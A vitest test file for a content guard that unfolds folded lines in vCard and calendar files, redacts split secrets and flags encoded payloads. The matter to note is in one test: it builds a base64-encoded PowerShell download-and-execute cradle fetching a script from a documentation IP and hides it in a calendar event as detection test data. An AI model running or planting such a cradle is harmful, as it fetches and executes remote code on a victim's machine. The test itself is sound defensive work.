import { describe, expect, it } from 'vitest';
import { CONTENT_QUESTIONS, type ContentQuestion } from '../../src/content/codes.js';
import { unfoldedOf } from '../../src/content/folded-lines.js';
import { guard, redact } from '../../src/content/guard.js';

/** What --redact leaves of `text`, judged for every question. */
const redacted = (text: string): string => {
  const r = guard(text, CONTENT_QUESTIONS);
  if (!r.ok) throw new Error('not judged');
  return redact(text, r.hits);
};
const codes = (text: string, questions: readonly ContentQuestion[] = CONTENT_QUESTIONS): string[] => {
  const r = guard(text, questions);
  return r.ok ? r.hits.map((h) => h.code) : [];
};
const card = (note: string, brk = '\r\n'): string => ['BEGIN:VCARD', 'VERSION:3.0', 'FN:Ana Lee', note, 'END:VCARD'].join(brk);

describe('folded lines of calendar and contact files', () => {
  it('takes out folds inside a block only, and maps each code unit back to its place', () => {
    const text = 'indent:\n  kept\nBEGIN:VCARD\r\nNOTE:ab\r\n cd\n\tef\r\nEND:VCARD\n x';
    const u = unfoldedOf(text, true)!;
    expect(u.view).toBe('indent:\n  kept\nBEGIN:VCARD\r\nNOTE:abcdef\r\nEND:VCARD\n x');
    for (let i = 0; i < u.view.length; i++) expect(text[u.places[i]!]).toBe(u.view[i]);
    expect(unfoldedOf('BEGIN:VCARD\r\nNOTE:plain\r\nEND:VCARD', true)).toBeUndefined();
    // A fold inside a word of prose is read as written; one inside a run with a digit is read joined.
    expect(unfoldedOf('BEGIN:VEVENT\nDESCRIPTION:the pan\n el laptop\nEND:VEVENT')).toBeUndefined();
    expect(unfoldedOf('BEGIN:VEVENT\nDESCRIPTION:PIN 47\n 67\nEND:VEVENT')?.view).toContain('PIN 4767');
    expect(unfoldedOf('notes:\n  indented\n\tline')).toBeUndefined();
  });

  it('redacts every piece of a secret cut by a fold and keeps the text around it', () => {
    const text = card('NOTE:Portal login ana42\\, password: Tr0ub4dor&\r\n 3xQv9L - keep private');
    const out = redacted(text);
    expect(out).not.toContain('Tr0ub4dor&');
    expect(out).not.toContain('3xQv9L');
    expect(out).toContain('NOTE:Portal login ana42\\, password: ');
    expect(out).toContain(' - keep private\r\nEND:VCARD');
  });

  it('reads a base64 script cut by a fold, and leaves a folded photo', () => {
    const blob = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", 'utf16le').toString('base64');
    const event = `BEGIN:VCALENDAR\nBEGIN:VEVENT\nDESCRIPTION:Run first: powershell -enc ${blob.slice(0, 30)}\n ${blob.slice(30)}\nEND:VEVENT\nEND:VCALENDAR`;
    expect(codes(event, ['encoded_payload']).length).toBeGreaterThan(0);
    const bytes = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 73 + 41) % 256)).toString('base64');
    const photo = card(`PHOTO;ENCODING=b;TYPE=JPEG:${bytes.match(/.{1,74}/g)!.join('\r\n ')}`);
    expect(codes(photo)).toEqual([]);
  });

  it('leaves a bridge participant PIN read whole once unfolded', () => {
    const event = 'BEGIN:VEVENT\r\nDESCRIPTION:Dial-in: +1 646 555 0142\\nParticipant PIN: 32\r\n 94 6861#\r\nEND:VEVENT';
    expect(codes(event, ['credential_leak'])).toEqual([]);
  });
});
